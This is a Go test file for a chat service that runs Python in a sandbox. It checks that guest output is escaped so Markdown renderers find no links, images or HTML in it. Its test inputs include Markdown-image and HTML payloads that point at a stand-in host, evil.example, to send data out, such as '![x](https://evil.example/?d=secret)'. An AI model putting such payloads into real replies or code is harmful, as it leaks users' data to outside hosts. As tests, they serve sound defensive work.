package chat_test

import (
	"bytes"
	"context"
	"fmt"
	"html"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	extast "github.com/yuin/goldmark/extension/ast"
	"github.com/yuin/goldmark/text"

	"runpython/internal/chat"
	"runpython/internal/kernel"
)

// scripted is an interpreter whose every run has the same result.
type scripted struct {
	chat.Interpreter
	result kernel.Result
}

func (s scripted) Run(context.Context, kernel.Request) (*kernel.Result, error) {
	r := s.result
	return &r, nil
}

// script makes all interpreters scripted.
func script(o *chat.Options, r kernel.Result) {
	start := o.Start
	o.Start = func(ctx context.Context, b chat.Start, fill func(string) error) (chat.Interpreter, error) {
		i, err := start(ctx, b, fill)
		return scripted{i, r}, err
	}
}

// replyOf is the reply to a run with a result.
func replyOf(t *testing.T, r kernel.Result) *chat.Reply {
	t.Helper()
	s, _ := newService(t, func(o *chat.Options) { script(o, r) })
	return ask(t, s, "", "anything")
}

// readers are renderers as clients have them: plain CommonMark, and what GitHub adds.
func readers() []goldmark.Markdown {
	return []goldmark.Markdown{goldmark.New(), goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote))}
}

// markup names what a renderer finds in a reply that would act: fetch, lead elsewhere than it says, or be HTML.
func markup(source string) []string {
	var found []string
	for _, m := range readers() {
		_ = ast.Walk(m.Parser().Parse(text.NewReader([]byte(source))), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
			switch n.(type) {
			case *ast.Link, *ast.Image, *ast.RawHTML, *ast.HTMLBlock, *ast.Heading, *ast.Blockquote:
				if entering {
					found = append(found, n.Kind().String())
				}
			}
			return ast.WalkContinue, nil
		})
	}
	return found
}

// rendered is a reply as the text of a page.
func rendered(t *testing.T, source string) string {
	t.Helper()
	var b bytes.Buffer
	if err := goldmark.New(goldmark.WithExtensions(extension.Table, extension.Strikethrough)).Convert([]byte(source), &b); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// hostileTexts are what a guest may say to become more than text.
func hostileTexts() []string {
	return []string{
		"![x](https://evil.example/?d=secret)", "[x](https://evil.example)", "![x][1]", "[1]: https://evil.example", "<https://evil.example>",
		"https://evil.example/?d=1", "see HTTP://evil.example", "www.evil.example", "(WWW.evil.example)", "me@evil.example", "mailto:me@evil.example",
		"<img src=https://evil.example>", "<!-- x", "</td>", "<?php", "<![CDATA[x", "`", "``![x](y)", "~~~", "``` \n![x](https://evil.example)",
		"a\n\n![x](https://evil.example)", "a\r![x](https://evil.example)", "a\r\n\r\n<img src=x>", `\![x](https://evil.example)`, `\\![x](https://evil.example)`,
		"&lt;img&gt; &#33;[x](y)", "*a* _b_ __c__ ~d~ snake_case a_ _b 3 < 4 & 5", "| x | ![y](z) |", `\| ![x](y)`, "[^1]", "# x", "> x", "a\x00\x1bb", "\xff\xfe![x](y)",
	}
}

// TestGuestTextIsNoMarkup: an image in a table, a name, a note or a last word would be fetched by the
// client of the person, and so be a way out of a guest that has no network.
func TestGuestTextIsNoMarkup(t *testing.T) {
	for _, said := range append(hostileTexts(), strings.Join(hostileTexts(), "\n"), strings.Join(hostileTexts(), " ")) {
		t.Run(fmt.Sprintf("%.20q", said), func(t *testing.T) {
			if found := markup(replyOf(t, hostileResult(said)).Text); len(found) > 0 {
				t.Errorf("%q comes out as %v", said, found)
			}
		})
	}
}

func FuzzGuestTextIsNoMarkup(f *testing.F) {
	for _, said := range hostileTexts() {
		f.Add(said)
	}
	f.Fuzz(func(t *testing.T, said string) {
		if len(said) > 1000 {
			return
		}
		reply := replyOf(t, hostileResult(strings.ToValidUTF8(said, "\uFFFD")))
		if found := markup(reply.Text); len(found) > 0 || len(reply.Text) > chat.MaxTextBytes {
			t.Errorf("%q comes out as %v, %d bytes", said, found, len(reply.Text))
		}
	})
}

// hostileResult says a text in every field that is shown.
func hostileResult(said string) kernel.Result {
	return kernel.Result{
		Status: kernel.Exited, ExitText: said, Notes: []string{said, "x " + said},
		Table: &kernel.Table{Markdown: "| a | " + said + " |\n| --- | --- |\n| " + said + " | 1 |\n" + said},
		Value: &kernel.Value{Text: said}, Error: &kernel.Exception{Type: said, Message: said, Traceback: said},
		Files: &kernel.FileReport{Changed: []kernel.FileEntry{{Path: "x" + strings.ReplaceAll(said, "/", "|"), Kind: "link"}}},
	}
}

// What is escaped reads as it was.
func TestTableShowsItsCells(t *testing.T) {
	for _, cell := range hostileTexts() {
		if strings.ContainsAny(cell, "\n\r\x00\x1b") || !utf8.ValidString(cell) { // guests' tables have none
			continue
		}
		said := strings.NewReplacer(`\`, `\\`, "|", `\|`).Replace(cell)
		reply := replyOf(t, kernel.Result{Status: kernel.OK, Table: &kernel.Table{Markdown: "|  | a |\n| --- | --- |\n| 0 | " + said + " |", Rows: 1, Columns: 1}})
		if want := "<td>" + html.EscapeString(cell) + "</td>"; !strings.Contains(strings.ReplaceAll(html.UnescapeString(rendered(t, reply.Text)), "\n", ""), html.UnescapeString(want)) {
			t.Errorf("cell %q comes out as %s", cell, rendered(t, reply.Text))
		}
	}
	plain := "|  | first_name | b |\n| --- | --- | --- |\n| 0 | Ann (x) 10:30 3.5 -1 #1 {a} > + | 2026-01-01 |"
	if reply := replyOf(t, kernel.Result{Status: kernel.OK, Table: &kernel.Table{Markdown: plain, Rows: 1, Columns: 2}}); !strings.Contains(reply.Text, plain) {
		t.Errorf("a table without markup has changed:\n%s", reply.Text)
	}
}

// A table that is too large loses rows of its middle, and one of which nothing fits gives way to the text.
func TestTableIsBounded(t *testing.T) {
	table := func(columns, rows, width int) string {
		row := "|" + strings.Repeat(" "+strings.Repeat("[", width)+" |", columns) + "\n"
		return row + "|" + strings.Repeat(" --- |", columns) + "\n| first |\n" + strings.Repeat(row, rows) + "| last |"
	}
	for _, c := range []struct {
		name    string
		sent    string
		isTable bool
	}{
		{"long", table(3, 5000, 10), true},
		{"narrow", table(1, 60_000, 1), true},
		{"wide cells", table(3, 100, 500), true},
		{"one cell that is too large", table(1, 3, 100_000), false},
		{"nothing", "", false},
		{"many columns", table(60_000, 1, 0), true},
		{"many empty lines", "|" + strings.Repeat(" |", 60_000) + strings.Repeat("\n", 60_000) + "|", true},
	} {
		t.Run(c.name, func(t *testing.T) {
			reply := replyOf(t, kernel.Result{Status: kernel.OK, Table: &kernel.Table{Markdown: c.sent, Rows: 1, Columns: 1}, Value: &kernel.Value{Text: "as text"}})
			page := rendered(t, reply.Text)
			if len(reply.Text) > 13_000 || strings.Contains(page, "<table>") != c.isTable || strings.Contains(page, "as text") == c.isTable {
				t.Errorf("%d bytes, want a table: %v\n%.300s", len(reply.Text), c.isTable, page)
			}
			if strings.Contains(c.sent, "first") && c.isTable && (!strings.Contains(page, "first") || !strings.Contains(page, "last")) {
				t.Errorf("an end of the table is missing:\n%.300s", page)
			}
		})
	}
}

// Whatever the sizes, every fence is closed, and the text keeps its bound.
func TestTextIsBoundedAndClosed(t *testing.T) {
	long := func(piece string) string { return strings.Repeat(piece, 16_000/len(piece)) }
	for name, said := range map[string]string{
		"backticks": long("`"), "runs of backticks": long(strings.Repeat("`", 65) + "x"), "lines of backticks": long("````````\n"), "tildes": long("~"),
		"letters": long("x"), "text of many bytes": long("€"), "brackets": long("["), "lines": long("\n"),
	} {
		t.Run(name, func(t *testing.T) {
			r := hostileResult(said)
			for range 20 {
				r.Notes = append(r.Notes, said[:500])
			}
			for i := range 60 {
				r.Files.Changed = append(r.Files.Changed, kernel.FileEntry{Path: fmt.Sprint(i) + said[:3000], Kind: "fifo"})
			}
			reply := replyOf(t, r)
			if len(reply.Text) > chat.MaxTextBytes {
				t.Errorf("the text has %d bytes, more than %d", len(reply.Text), chat.MaxTextBytes)
			}
			page := readers()[1].Parser().Parse(text.NewReader([]byte(reply.Text)))
			shown := 0
			for n := page.FirstChild(); n != nil; n = n.NextSibling() {
				if n.Kind() == ast.KindFencedCodeBlock || n.Kind() == extast.KindTable {
					shown++
				}
			}
			if found := markup(reply.Text); shown != 3 || page.LastChild().Kind() != ast.KindParagraph || len(found) > 0 {
				t.Errorf("%d blocks, at the end %v, %v; want value, error and last words each closed, and notes at the end", shown, page.LastChild().Kind(), found)
			}
		})
	}
}
